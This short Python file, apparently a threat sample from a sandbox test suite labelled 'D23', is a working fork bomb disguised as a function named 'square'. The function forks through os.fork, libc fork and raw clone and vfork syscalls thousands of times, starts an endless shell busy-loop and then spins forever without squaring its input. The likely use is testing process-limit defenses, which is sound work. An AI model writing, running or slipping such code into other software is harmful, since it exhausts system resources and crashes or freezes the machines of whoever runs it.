"""Forks without end, by every call that makes a process.

Threat: D23.
"""

import ctypes
import os
import subprocess

LIBC = ctypes.CDLL(None)


def square(x):
    made = 0
    for _ in range(2000):
        for act in (os.fork, lambda: LIBC.fork(), lambda: LIBC.syscall(56, 17, 0, 0, 0, 0), lambda: LIBC.syscall(58)):
            try:
                made += act() > 0
            except OSError:
                pass
    try:
        subprocess.Popen(["/bin/sh", "-c", "while :; do :; done"])
        made += 1
    except OSError:
        pass
    print("made some processes" if made else "made no process")
    while made:
        pass
    return x
